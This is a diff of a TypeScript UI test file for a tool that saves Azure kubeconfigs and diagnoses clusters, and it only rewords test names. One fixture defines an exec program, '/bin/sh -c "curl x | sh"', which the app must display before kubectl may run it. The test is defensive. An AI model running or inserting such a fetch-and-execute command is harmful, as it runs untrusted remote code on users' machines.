@@ -7,7 +7,7 @@ const open = (answers: Parameters<typeof renderApp>[1] = {}): ReturnType<typeof 
   renderApp({ name: "cluster", clusterId: clusterId("rg-ml-prod", "scoring-01") }, answers);
 
 describe("kubeconfig of a cluster", () => {
-  it("is added to kubectl's own file unless said otherwise", async () => {
+  it("is added to kubectl's default file by default", async () => {
     const { user, host } = open();
     await user.click(await screen.findByTestId("save-kubeconfig"));
     const saved = await screen.findByTestId("kubeconfig-saved");
@@ -17,7 +17,7 @@ describe("kubeconfig of a cluster", () => {
     await expectAccessible();
   });
 
-  it("says which program signs in", async () => {
+  it("shows which program signs in", async () => {
     const { user } = open({
       save_kubeconfig: () => ({
         outcome: "saved",
@@ -40,7 +40,7 @@ describe("kubeconfig of a cluster", () => {
     expect(saved.textContent).toContain("/k.bak");
   });
 
-  it("never replaces kubectl's own file", async () => {
+  it("never replaces kubectl's default file", async () => {
     const { user, host } = open();
     const merge = await screen.findByTestId("kubeconfig-merge");
     expect(merge).toHaveProperty("disabled", true);
@@ -56,7 +56,7 @@ describe("kubeconfig of a cluster", () => {
     expect(host.calls.findLast(({ command }) => command === "save_kubeconfig")?.args).toMatchObject({ file: null, merge: true });
   });
 
-  it("names a chosen file by its id", async () => {
+  it("refers to a chosen file by its ID", async () => {
     const { user, host } = open();
     await user.click(await screen.findByTestId("kubeconfig-choose"));
     await screen.findByDisplayValue("team.yaml");
@@ -65,7 +65,7 @@ describe("kubeconfig of a cluster", () => {
     expect(host.calls.findLast(({ command }) => command === "save_kubeconfig")?.args).toMatchObject({ file: "f-1" });
   });
 
-  it("shows a program that Azure named before kubectl may run it", async () => {
+  it("shows a program named by Azure before kubectl may run it", async () => {
     const program = { command: "/bin/sh", args: ["-c", "curl x | sh"], env: [], shown: '"/bin/sh" "-c" "curl x | sh"' };
     const { user, host } = open({
       save_kubeconfig: ({ allowedProgram }) =>
@@ -99,7 +99,7 @@ describe("kubeconfig of a cluster", () => {
 });
 
 describe("diagnosis of a cluster", () => {
-  it("is read once it is asked for", async () => {
+  it("runs on request", async () => {
     const { user, host } = open();
     await user.click(await screen.findByTestId("diagnose"));
     await screen.findByTestId("diagnosis-report");
